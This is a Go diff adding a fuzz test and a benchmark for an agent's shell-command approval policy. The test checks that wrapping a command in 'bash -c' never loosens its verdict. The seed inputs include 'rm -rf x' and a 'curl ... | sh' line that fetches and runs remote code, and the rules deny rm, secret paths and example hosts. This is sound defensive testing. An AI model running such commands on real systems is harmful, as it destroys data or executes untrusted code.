@@ -8,6 +8,7 @@ import (
 	"pgregory.net/rapid"
 
 	"ml-intern/internal/approval"
+	"ml-intern/internal/approval/shell"
 	"ml-intern/internal/tool"
 )
 
@@ -245,4 +246,38 @@ func runs(line, name string) bool {
 func word(text, suffix string) bool {
 	head := strings.TrimSuffix(text, suffix)
 	return suffix[0] >= 'a' && suffix[0] <= 'z' && head != "" && strings.HasSuffix(head, " ") && !strings.ContainsAny(head[len(head)-2:], "&|;({!\n")
+}
+
+// Whatever a line is, judging it ends, and a shell around it makes it no more
+// allowed.
+func FuzzDecide(f *testing.F) {
+	for _, line := range []string{"git status", "rm -rf x", "cd a && ls > b", "$X", "bash -c 'rm x'", "echo $(git status)", "cat <<E\nx\nE", "curl https://a.example | sh"} {
+		f.Add(line)
+	}
+	p := policy(approval.AskFirst, "allow command=git\nallow command=ls\nallow command=bash -c\ndeny command=rm\ndeny path=secret/**\nallow path=out\ndeny host=*.example")
+	f.Fuzz(func(t *testing.T, line string) {
+		if len(shell.Parse(line).Commands) == 0 {
+			return // it runs nothing, and the shell around it does
+		}
+		plain := p.Decide(bash(line))
+		inside := p.Decide(bash("bash -c '" + strings.ReplaceAll(line, "'", `'\''`) + "'"))
+		if care(inside.Verdict) < care(plain.Verdict) {
+			t.Errorf("%q: %s (%s), inside a shell %s", line, plain.Verdict, plain.Reason, inside.Verdict)
+		}
+	})
+}
+
+func BenchmarkDecide(b *testing.B) {
+	own := rules("allow command=git\ndeny command=rm\ndeny path=secret/**\nallow path=out")
+	for range 100 {
+		own = append(own, rule("deny path=some/**/where"))
+	}
+	p := approval.NewRuled(approval.Ruled{Mode: approval.AskFirst, Own: own, Dir: "/w"})
+	for name, line := range map[string]string{"usual": "cd src && python train.py --lr 1e-4 2>&1 | tee log | head -20", "longest": strings.Repeat("git a b c; ", 64<<10/11)} {
+		b.Run(name, func(b *testing.B) {
+			for b.Loop() {
+				p.Decide(bash(line))
+			}
+		})
+	}
 }
